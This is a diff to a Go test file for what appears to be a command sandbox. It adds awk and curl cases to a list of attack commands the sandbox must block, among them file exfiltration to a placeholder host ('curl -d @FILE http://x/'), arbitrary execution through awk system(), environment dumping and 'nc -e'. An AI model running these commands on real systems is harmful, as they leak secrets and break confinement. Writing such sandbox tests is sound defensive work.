@@ -62,6 +62,9 @@ func attacks() map[string][]string {
 		"find": {"find DIR", "find DIR/", "find . -exec cat {} +", "find -L . -type f -exec cat {} ';'", "find DIR -delete", "find x -newer FILE && echo " + visible},
 		"sync": {"sync FILE"}, "basename": {"for f in DIR/*; do basename $f; done"}, "dirname": {"dirname DIR/*"}, "pwd": {"cd DIR && pwd -P && echo " + visible}, "which": {"which DIR/program && echo " + visible, "PATH=DIR /bin/which program"},
 		"env": {"env", "env -i cat FILE", "env DIR/program", "env PATH=DIR program", "env -i env"}, "printenv": {"printenv", "printenv K8SLAB_CANARY"},
+		"awk": {"awk 1 FILE", "awk -f FILE", "awk 'BEGIN { while ((getline x < \"FILE\") > 0) print x }'", "awk 'BEGIN { print 1 > \"DIR/new\" }'", "awk 'BEGIN { print 1 >> \"FILE\" }'",
+			"awk 'BEGIN { \"cat FILE\" | getline x; print x }'", "awk 'BEGIN { print 1 | \"cat > DIR/new\" }'", "awk 'BEGIN { system(\"cat FILE\") }'", "awk 'BEGIN { for (k in ENVIRON) print k, ENVIRON[k] }'",
+			"awk 'BEGIN { ARGV[1] = \"FILE\"; ARGC = 2 } { print }'", "awk 1 x FILE", "awk 'BEGIN { system(\"DIR/program\") }'"},
 		"tar": {"tar cf - DIR | tar xf - -O", "tar c FILE", "tar cf x.tar -C DIR .; tar xOf x.tar", "tar cf DIR/new x", "tar cf x.tar x; tar xf x.tar -C DIR", "tar tf FILE", "tar xf DIR/new.tar",
 			"ln -s DIR l; tar cf y.tar l/canary; tar xOf y.tar", "mkdir d; ln -s DIR d/e; tar cf z.tar d; rm -r d; tar xf z.tar; echo x > d/e/new; cat d/e/canary"},
 		"gzip": {"gzip -c FILE | zcat", "gzip FILE", "gzip -f DIR/canary", "gzip -k x; mv x.gz DIR/new"}, "gunzip": {"gunzip FILE", "gunzip -c FILE", "echo x | gzip | gunzip > DIR/new"}, "zcat": {"zcat FILE", "echo x | gzip | zcat > DIR/new"},
@@ -74,6 +77,7 @@ func attacks() map[string][]string {
 		"hostname": {"hostname -F FILE", "hostname FILE"}, "uname": {"uname -a"}, "id": {"id"}, "whoami": {"whoami"}, "nproc": {"nproc"}, "ps": {"ps -ef"},
 		"kill": {fmt.Sprintf("kill -9 %d; kill -0 %d && echo %s", os.Getpid(), os.Getpid(), visible), fmt.Sprintf("kill -9 -%d", os.Getpid()), "kill -9 -1"},
 		"wget": {"wget -O FILE http://x/", "wget file://FILE", "wget -O- file://DIR/canary", "wget -P DIR http://x/", "wget --post-file=FILE http://x/", "wget -i FILE"},
+		"curl": {"curl file://FILE", "curl -s file://DIR/canary", "curl -o DIR/new http://x/", "curl -d @FILE http://x/", "curl --cacert FILE https://x/", "curl -K FILE http://x/"},
 		"nc":   {"nc -e FILE x 1", "nc x 1 < FILE", "nc -lU DIR/new"},
 	}
 }
@@ -282,7 +286,7 @@ func (b *box) mustNotHold(t *testing.T, secret string) {
 func TestAttacksAreReal(t *testing.T) {
 	all := attacks()
 	all["the shell"] = constructs()
-	harmless := strings.Fields("true false expr usleep sleep seq printf sync uname id whoami nproc ps kill hostname printenv wget nc dirname date free uptime pidof pgrep pkill killall tty groups hostid")
+	harmless := strings.Fields("true false expr usleep sleep seq printf sync uname id whoami nproc ps kill hostname printenv wget curl nc dirname date free uptime pidof pgrep pkill killall tty groups hostid")
 	for name, list := range all {
 		if slices.Contains(harmless, name) {
 			continue
